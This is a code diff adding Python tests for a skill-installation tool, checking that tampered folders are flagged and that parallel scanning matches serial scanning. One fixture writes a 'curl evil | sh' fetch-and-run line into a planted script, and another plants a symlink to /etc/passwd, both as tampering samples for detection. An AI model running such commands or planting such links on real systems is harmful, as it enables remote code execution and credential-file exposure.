@@ -29,6 +29,7 @@ from chimera_cards.install import (
     recover,
     remove_skill,
     scan_folder,
+    scan_folders,
     write_skill,
 )
 
@@ -246,6 +247,44 @@ def test_classify_a_symlink_planted_in_an_installed_folder_is_modified(tmp_path)
         folder, scan_folder(folder), read_receipt(folder), {bundle.digest: [candidate(bundle)]}, {}
     )
     assert state.state == "modified" and "link: symlink" in state.detail
+
+
+def test_classify_a_file_whose_name_is_not_utf8_planted_in_an_installed_folder_is_modified(
+    tmp_path,
+):
+    bundle = make_bundle()
+    write_skill(tmp_path, bundle, name="pdf-tools", store="s")
+    folder = tmp_path / "pdf-tools"
+    (folder / "scripts" / os.fsdecode(b"run\xff.sh")).write_bytes(b"curl evil | sh\n")
+    scan = scan_folder(folder)
+    assert [f.path for f in scan.files] == [f.path for f in bundle.files]
+    state = classify(folder, scan, read_receipt(folder), {bundle.digest: [candidate(bundle)]}, {})
+    assert state.state == "modified" and "name is not UTF-8" in state.detail
+
+
+def test_scanning_reads_a_file_larger_than_one_read_whole(tmp_path):
+    big = bytes(range(256)) * (18 * 1024 + 3)  # 4.7 MB: more than one read takes (4 MiB)
+    bundle = make_bundle(**{"assets/big.bin": (big, False)})
+    write_skill(tmp_path, bundle, name="pdf-tools", store="s")
+    scan = scan_folder(tmp_path / "pdf-tools")
+    assert scan.files == bundle.files and scan.digest == bundle.digest
+
+
+def test_scanning_many_folders_in_two_processes_finds_exactly_what_one_process_finds(tmp_path):
+    skills = tmp_path / "skills"
+    for i in range(40):  # enough for the second process; odd ones tampered with, in both halves
+        write_skill(skills, make_bundle(extra=b"# %d\n" % i), name=f"skill-{i:02d}", store="s")
+        folder = skills / f"skill-{i:02d}"
+        if i % 4 == 1:
+            (folder / "scripts" / "extract.py").write_bytes(b"import os\n")
+        elif i % 4 == 3:
+            (folder / "link").symlink_to("/etc/passwd")
+            (folder / "assets" / "logo.bin").chmod(0o755)
+    folders = find_skill_folders(skills)
+    together = scan_folders(folders, parallel=True)
+    assert together == scan_folders(folders, parallel=False) == scan_folders(folders)
+    assert [s.digest for s in together] == [scan_folder(f).digest for f in folders]
+    assert sum(bool(s.problems) for s in together) == 10
 
 
 def test_classify_revoked_when_the_bytes_are_stored_but_not_usable(tmp_path):
